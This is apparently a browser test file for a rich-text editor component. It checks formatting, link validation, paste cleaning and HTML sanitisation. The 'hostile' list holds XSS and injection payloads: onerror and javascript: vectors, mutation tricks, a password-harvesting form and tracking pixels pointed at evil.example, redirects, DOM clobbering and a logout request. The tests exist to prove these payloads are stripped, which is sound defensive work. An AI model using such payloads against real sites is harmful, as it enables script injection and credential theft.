import { afterEach, expect, test } from 'vitest';
import { page, userEvent } from 'vitest/browser';
import { accessibilityProblems } from '../../testing/accessibility.ts';
import { showPart } from '../../testing/show-part.tsx';
import { cleanHtml } from '../../ui/clean-html.ts';
import { RichText } from '../../ui/rich-text.tsx';
import { chooseTheme } from '../../ui/theme.ts';
import { field, showForm } from './testing/show-form.tsx';

const tool = (name: string) => page.getByRole('toolbar').getByRole('button', { name });
const paper = () => page.getByRole('textbox', { name: '说明' });
const settled = () => Promise.all(document.getAnimations().map(({ finished }) => finished));

afterEach(() => page.viewport(390, 844));

test('bold, a list, a heading, undo; nothing written is nothing', async () => {
  const { store } = await showForm([field('richText', '说明', { required: true })]);
  await paper().click();
  await tool('加粗').click();
  await userEvent.keyboard('重要');
  await expect.poll(() => store.values.说明).toBe('<p><strong>重要</strong></p>');
  await expect.element(tool('加粗')).toHaveAttribute('aria-pressed', 'true');
  await tool('项目列表').click();
  await expect.poll(() => store.values.说明).toMatch(/^<ul>.*<strong>重要<\/strong>.*<\/ul>$/);
  await tool('撤销').click();
  await expect.poll(() => store.values.说明).toBe('<p><strong>重要</strong></p>');
  await paper().click();
  await userEvent.keyboard('{Control>}a{/Control}{Delete}');
  await expect.poll(() => store.values.说明).toBeNull();
});

test('a link leads to the web and nowhere else', async () => {
  const { store } = await showForm([field('richText', '说明')]);
  await paper().click();
  await tool('链接').click();
  const address = page.getByRole('textbox', { name: '链接地址' });
  await address.fill('javascript:alert(1)');
  await userEvent.keyboard('{Enter}');
  await expect.element(page.getByText('请输入以 http:// 或 https:// 开头的地址')).toBeVisible();
  expect(store.values.说明 ?? null).toBeNull();
  await address.fill('https://example.com/a');
  await userEvent.keyboard('{Enter}');
  await expect.poll(() => store.values.说明).toContain('href="https://example.com/a"');
  expect(store.values.说明).toContain('noopener');
});

test('what is pasted is cleaned, and another value from outside takes its place', async () => {
  const { store } = await showForm([field('richText', '说明')], {
    values: { 说明: '<p onclick="alert(1)">旧<script>alert(1)</script></p>' },
  });
  await expect.element(paper()).toHaveTextContent('旧');
  const data = new DataTransfer();
  data.setData(
    'text/html',
    '<p>粘贴<img src=x onerror="window.hurt=1"><a href="javascript:alert(1)">坏</a></p>',
  );
  paper()
    .element()
    .dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
  await expect.poll(() => store.values.说明).toContain('粘贴');
  expect(store.values.说明).not.toMatch(/onerror|javascript|onclick|script/i);
  expect((window as { hurt?: number }).hurt).toBeUndefined();
  store.set({ path: '说明' }, '<p>草稿</p>');
  await expect.element(paper()).toHaveTextContent('草稿');
});

const hostile: [string, string][] = [
  ['a script', '<script>window.hurt=1</script>'],
  ['a picture that fails', '<img src=x onerror="window.hurt=1">'],
  ['a picture from elsewhere', '<img src="https://evil.example/pixel.gif">'],
  ['a picture without a scheme', '<img src="//evil.example/pixel.gif">'],
  ['a picture that is a drawing', `<img src="data:image/svg+xml;base64,${btoa('<svg onload=alert(1)>')}">`],
  ['several sources', '<img srcset="https://evil.example/1x" src="x">'],
  ['our own doors', '<img src="/api/oauth/Logout">'],
  ['our own doors by a detour', '<img src="/api/file/Image/../../oauth/Logout">'],
  ['a drawing', '<svg><animate onbegin="window.hurt=1" attributeName=x dur=1s></svg>'],
  ['formulas', '<math><mtext><table><mglyph><style><img src=x onerror="window.hurt=1">'],
  ['a frame', '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>'],
  ['a form', '<form action="https://evil.example"><input name=password><button>登录</button></form>'],
  ['a style', '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>'],
  ['a sheet of styles', '<style>*{display:none}</style>'],
  ['a link that runs', '<a href="javascript:window.hurt=1">x</a>'],
  ['a link that runs, disguised', '<a href=" jav&#x09;ascript:window.hurt=1">x</a>'],
  ['a link of data', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['another base', '<base href="https://evil.example/">'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
  [
    'names that stand in for ours',
    '<img name=cookie><a id=location></a><form id=x><input id=attributes></form>',
  ],
  ['a template', '<template><img src=x onerror="window.hurt=1"></template>'],
  ['a comment that ends early', '<!--><img src=x onerror="window.hurt=1">-->'],
];

test.each(hostile)('%s does nothing', async (_, html) => {
  await showPart(<RichText html={`<p>前</p>${html}<p>后</p>`} />);
  await expect.element(page.getByText('前')).toBeVisible();
  const shown = document.querySelector('.rich-text');
  expect((window as { hurt?: number }).hurt).toBeUndefined();
  const elements = [...(shown?.querySelectorAll('*') ?? [])];
  const names = elements.flatMap((element) => element.getAttributeNames());
  expect(
    names.filter((name) => name.startsWith('on') || ['style', 'id', 'name', 'srcset'].includes(name)),
  ).toEqual([]);
  const tags = elements.map(({ tagName }) => tagName.toLowerCase());
  const unwanted = [
    'script',
    'svg',
    'math',
    'iframe',
    'form',
    'input',
    'button',
    'style',
    'base',
    'meta',
    'template',
    'img',
  ];
  expect(tags.filter((tag) => unwanted.includes(tag))).toEqual([]);
  for (const link of shown?.querySelectorAll('a') ?? []) expect(link.getAttribute('href')).toBeNull();
  expect(performance.getEntriesByType('resource').filter(({ name }) => name.includes('evil'))).toEqual([]);
});

test('a link to the web opens apart; pictures are ours or inside the text', async () => {
  const inside = 'data:image/png;base64,iVBORw0KGgo=';
  const asked: string[] = [];
  await showPart(
    <RichText
      html={`<a href="https://example.com" target="_self" rel="opener">去</a><img src="${inside}" alt="内"><img src="/api/file/Image/annexpic/p1" alt="我们的"><img src="/api/file/Image/annexpic/gone" alt="没了">`}
      openPicture={async (address) => {
        asked.push(address);
        if (address.endsWith('gone')) throw new Error('gone');
        return inside;
      }}
    />,
  );
  const link = page.getByRole('link', { name: '去' });
  await expect.element(link).toHaveAttribute('rel', 'noopener noreferrer');
  await expect.element(link).toHaveAttribute('target', '_blank');
  await expect.element(page.getByAltText('我们的')).toHaveAttribute('src', inside);
  await expect.element(page.getByAltText('没了')).not.toBeInTheDocument();
  expect(asked).toEqual(['/api/file/Image/annexpic/p1', '/api/file/Image/annexpic/gone']);
});

test('cleaning what is clean changes nothing', () => {
  const html = cleanHtml(
    '<h2>标题</h2><ol><li><p>一 <u>二</u></p></li></ol><a href="https://example.com/?a=1&amp;b=2">x</a>',
  );
  expect(cleanHtml(html)).toBe(html);
  expect(html).toContain('<u>二</u>');
});

test('to be read, a form shows it cleaned; axe finds nothing on either, in light and in dark', async () => {
  const nodes = [field('richText', '说明'), field('richText', '只读', { readonly: true })];
  await showForm(nodes, { values: { 说明: '<p>写</p>', 只读: '<h2>标题</h2><p>读<script>1</script></p>' } });
  await expect.element(page.getByText('读', { exact: true })).toBeVisible();
  await expect.element(page.getByRole('toolbar')).toBeVisible();
  for (const theme of ['light', 'dark'] as const) {
    chooseTheme(theme);
    await settled();
    expect(await accessibilityProblems()).toEqual([]);
  }
});
